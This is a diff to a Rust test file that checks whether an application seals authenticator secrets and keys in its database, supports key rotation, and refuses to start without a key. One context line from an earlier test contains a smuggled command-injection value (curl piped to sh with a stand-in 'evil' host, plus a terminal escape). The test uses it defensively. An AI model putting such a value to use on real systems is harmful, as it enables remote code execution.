@@ -270,3 +270,52 @@ fn what_strangers_write_moves_no_cursor_and_forges_no_line() {
     let mail = String::from_utf8_lossy(&mail).replace("=\r\n", "").replace("=3D", "=");
     assert!(mail.contains("postern restricted release 'x;curl${ifs}evil|sh\\u{1b}[2j@example.com' --reason"), "{mail}");
 }
+
+#[test]
+fn a_copy_of_the_database_holds_no_secret_of_an_authenticator_or_link() {
+    let mut postern = Postern::configured("");
+    let key = |name: &str, four: &str| {
+        let path = postern.folder.path().join(name);
+        // 32 bytes in base64.
+        std::fs::write(&path, format!("{}{}=\n", four.repeat(10), &four[..3])).unwrap();
+        format!("\"file:{}\"", path.display())
+    };
+    let (old, new) = (key("old", "AQEB"), key("new", "AgIC"));
+    let stored = |postern: &Postern| {
+        let database = rusqlite::Connection::open(postern.data().join("postern.db")).unwrap();
+        let all = "SELECT value FROM keys UNION ALL SELECT totp_secret FROM people WHERE totp_secret IS NOT NULL";
+        let mut statement = database.prepare(all).unwrap();
+        let values = statement.query_map([], |row| row.get::<_, Vec<u8>>(0)).unwrap();
+        values.collect::<Result<Vec<_>, _>>().unwrap()
+    };
+    // Without a key, as before; with one, sealed from the next start on.
+    postern.run();
+    signed_up(&postern, "ann@example.com", "security-reader");
+    let database = rusqlite::Connection::open(postern.data().join("postern.db")).unwrap();
+    database
+        .execute("UPDATE people SET totp_secret = ?1, totp_step = 0", [b"an authenticator's 20".as_slice()])
+        .unwrap();
+    drop(database);
+    let plain = stored(&postern);
+    assert!(plain.len() == 3 && plain.iter().all(|value| !value.starts_with(b"sealed:")));
+    let restart = |postern: &mut Postern, keys: &str| {
+        postern.kill_9();
+        postern.configure(&format!("[secrets]\nkeys = [{keys}]\n"));
+        postern.run();
+    };
+    restart(&mut postern, &old);
+    let sealed = stored(&postern);
+    assert!(sealed.iter().all(|value| value.starts_with(b"sealed:")), "{sealed:?}");
+    // Rotation: the new key first; afterwards, the old one is not needed.
+    restart(&mut postern, &format!("{new}, {old}"));
+    let rotated = stored(&postern);
+    assert!(rotated.iter().all(|value| value.starts_with(b"sealed:") && !sealed.contains(value)));
+    restart(&mut postern, &new);
+    assert_eq!(stored(&postern), rotated);
+    // Without the right key, it says so and does not start.
+    postern.kill_9();
+    postern.configure("");
+    let output = with_config(&postern.config(), &["serve"]);
+    let said = String::from_utf8_lossy(&output.stderr).into_owned();
+    assert!(!output.status.success() && said.contains("secrets.keys"), "{said}");
+}
